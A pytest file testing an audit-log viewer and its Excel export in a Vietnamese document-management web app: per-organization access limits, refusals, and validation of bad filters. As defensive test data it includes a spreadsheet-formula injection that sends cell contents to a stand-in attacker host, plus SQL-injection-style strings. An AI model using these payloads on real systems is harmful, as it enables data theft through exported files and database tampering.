"""The audit viewer (/nhat-ky/): an organization's admin reads and exports that organization's
events only; a superuser reads everything; nobody else reads anything; bad filters get a clear
Vietnamese error, never a 500 and never unfiltered data."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from qlvb.audit_actions import AuditAction
from qlvb.models import AuditEvent, Role
from qlvb.services.audit import audit_record
from tests.factories import login_verified, make_org, make_user

pytestmark = pytest.mark.django_db

FORMULA = "=HYPERLINK(\"http://ke-xau.example/\"&A1,\"Bấm vào đây\")"


@pytest.fixture
def world():
    backan = make_org("UBND", name="Ủy ban nhân dân tỉnh Bắc Kạn")
    vpcp = make_org("VPCP", name="Văn phòng Chính phủ")
    admin = make_user(backan, [Role.ADMIN], username="qt.backan", full_name="Quản trị Bắc Kạn")
    clerk = make_user(backan, [Role.CLERK], username="vt.backan", full_name=FORMULA)
    other_admin = make_user(vpcp, [Role.ADMIN], username="qt.vpcp")
    mine = audit_record(action=AuditAction.TEST_EVENT, actor=clerk, organization=backan,
                        data={"text": "Sự kiện của Bắc Kạn"})
    theirs = audit_record(action=AuditAction.TEST_EVENT, actor=other_admin, organization=vpcp,
                          data={"text": "Bí mật của VPCP"})
    system = audit_record(action=AuditAction.TEST_AFTER, data={"text": "Sự kiện toàn hệ thống"})
    # signing in belongs to no organization: the admin sees their own people's, not the others'
    my_login = audit_record(action=AuditAction.LOGIN, actor=clerk, data={"username": clerk.username})
    their_login = audit_record(action=AuditAction.LOGIN, actor=other_admin, data={"username": "qt.vpcp"})
    return {"backan": backan, "vpcp": vpcp, "admin": admin, "clerk": clerk, "mine": mine, "theirs": theirs,
            "system": system, "my_login": my_login, "their_login": their_login}


def _seqs(response) -> set[int]:
    return {e.seq for e in response.context["page"]}


def test_an_organization_admin_sees_only_that_organizations_events(client, world):
    client.force_login(world["admin"])
    response = client.get("/nhat-ky/")
    assert response.status_code == 200
    seqs = _seqs(response)
    assert {world["mine"].seq, world["my_login"].seq} <= seqs
    assert not {world["theirs"].seq, world["system"].seq, world["their_login"].seq} & seqs
    assert "Bí mật của VPCP" not in response.content.decode()
    # the other organization's event does not exist for them
    assert client.get(f"/nhat-ky/{world['theirs'].seq}/").status_code == 404
    assert client.get(f"/nhat-ky/{world['system'].seq}/").status_code == 404
    assert client.get(f"/nhat-ky/{world['their_login'].seq}/").status_code == 404
    detail = client.get(f"/nhat-ky/{world['mine'].seq}/")
    assert detail.status_code == 200 and "Sự kiện của Bắc Kạn" in detail.content.decode()
    # asking for the other organization by filter is an error, not its data
    response = client.get("/nhat-ky/", {"co_quan": world["vpcp"].pk})
    assert response.status_code == 400 and response.context["page"] is None
    assert "ngoài phạm vi bạn được xem" in response.content.decode()
    export = client.get("/nhat-ky/xuat.xlsx", {"co_quan": world["vpcp"].pk})
    assert export.status_code == 400 and "Bí mật của VPCP" not in export.content.decode()


def test_a_superuser_sees_every_event(client, world, django_user_model):
    root = django_user_model.objects.create_superuser("root", "r@example.vn", "Mat-khau-root-1")
    login_verified(client, root)
    seqs = _seqs(client.get("/nhat-ky/"))
    assert {world["mine"].seq, world["theirs"].seq, world["system"].seq} <= seqs
    assert client.get(f"/nhat-ky/{world['theirs'].seq}/").status_code == 200


@pytest.mark.parametrize("url", ["/nhat-ky/", "/nhat-ky/1/", "/nhat-ky/xuat.xlsx"])
def test_who_is_not_an_administrator_is_refused(client, world, url, django_user_model):
    client.force_login(world["clerk"])
    assert client.get(url).status_code == 403
    staff = django_user_model.objects.create_user("nhanvien", password="x", is_staff=True)
    client.force_login(staff)  # staff without the admin role in any organization
    assert client.get(url).status_code == 403
    client.logout()
    response = client.get(url)
    assert response.status_code == 302 and response["Location"].startswith("/dang-nhap/")


def test_the_menu_links_the_viewer_for_administrators_only(client, world):
    client.force_login(world["admin"])
    assert 'href="/nhat-ky/"' in client.get("/nhat-ky/").content.decode()
    client.force_login(world["clerk"])
    assert 'href="/nhat-ky/"' not in client.get("/").content.decode()


@pytest.mark.parametrize(("params", "message"), [
    ({"tu_ngay": "31/02/2026"}, "Ngày bắt đầu không hợp lệ"),
    ({"den_ngay": "hôm qua"}, "Ngày kết thúc không hợp lệ"),
    ({"tu_ngay": "2026-12-07", "den_ngay": "2026-12-01"}, "Ngày bắt đầu phải trước hoặc bằng ngày kết thúc"),
    ({"hanh_dong": "drop table"}, "không có trong nhật ký"),
    ({"co_quan": "abc"}, "ngoài phạm vi bạn được xem"),
    ({"nguoi": "x" * 500}, "dài quá 150 ký tự"),
    ({"tu_ngay": "0001-01-01", "den_ngay": "9999-12-31"}, "Khoảng thời gian quá dài"),
])
def test_bad_filters_get_a_clear_vietnamese_error_and_no_rows(client, world, params, message):
    client.force_login(world["admin"])
    response = client.get("/nhat-ky/", params)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert response.context["page"] is None and 'data-audit-seq' not in response.content.decode()
    before = AuditEvent.objects.filter(action="audit.export").count()
    assert client.get("/nhat-ky/xuat.xlsx", params).status_code == 400
    assert AuditEvent.objects.filter(action="audit.export").count() == before  # nothing half-written


def test_a_page_number_that_is_not_a_number_shows_the_first_page(client, world):
    client.force_login(world["admin"])
    response = client.get("/nhat-ky/", {"trang": "'; drop table--"})
    assert response.status_code == 200 and response.context["page"].number == 1


def test_filters_narrow_the_list(client, world):
    client.force_login(world["admin"])
    admin_event = audit_record(action=AuditAction.ADMIN_CHANGE, actor=world["admin"], organization=world["backan"],
                               obj=world["backan"], data={"before": {"name": "a"}, "after": {"name": "b"},
                                                          "changed": ["name"]})
    assert _seqs(client.get("/nhat-ky/", {"hanh_dong": "admin.change"})) == {admin_event.seq}
    assert _seqs(client.get("/nhat-ky/", {"nguoi": "qt.backan"})) >= {admin_event.seq}
    assert world["mine"].seq not in _seqs(client.get("/nhat-ky/", {"nguoi": "qt.backan"}))
    by_object = _seqs(client.get("/nhat-ky/", {"doi_tuong": f"qlvb.organization:{world['backan'].pk}"}))
    assert admin_event.seq in by_object and world["mine"].seq not in by_object  # its creation is there too
    assert _seqs(client.get("/nhat-ky/", {"tu_ngay": "2000-01-01", "den_ngay": "2000-12-31"})) == set()
    detail = client.get(f"/nhat-ky/{admin_event.seq}/").content.decode()
    assert "Trước và sau khi thay đổi" in detail and 'class="table-warning"' in detail


def test_the_export_is_the_filtered_scope_and_its_cells_are_never_formulas(client, world):
    client.force_login(world["admin"])
    response = client.get("/nhat-ky/xuat.xlsx", {"nguoi": "vt.backan"})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="nhat-ky-')
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(min_row=2))
    assert [r[0].value for r in rows] == [world["mine"].seq, world["my_login"].seq]
    actor_cell = rows[0][3]
    assert actor_cell.value.startswith(FORMULA) and actor_cell.data_type == "s"  # text, not a formula
    text = " ".join(str(c.value) for row in sheet.iter_rows() for c in row)
    assert "Bí mật của VPCP" not in text
    export = AuditEvent.objects.filter(action="audit.export").get()
    assert export.actor == world["admin"] and export.organization == world["backan"]
    assert export.data == {"rows": 2, "filters": {"nguoi": "vt.backan"}}
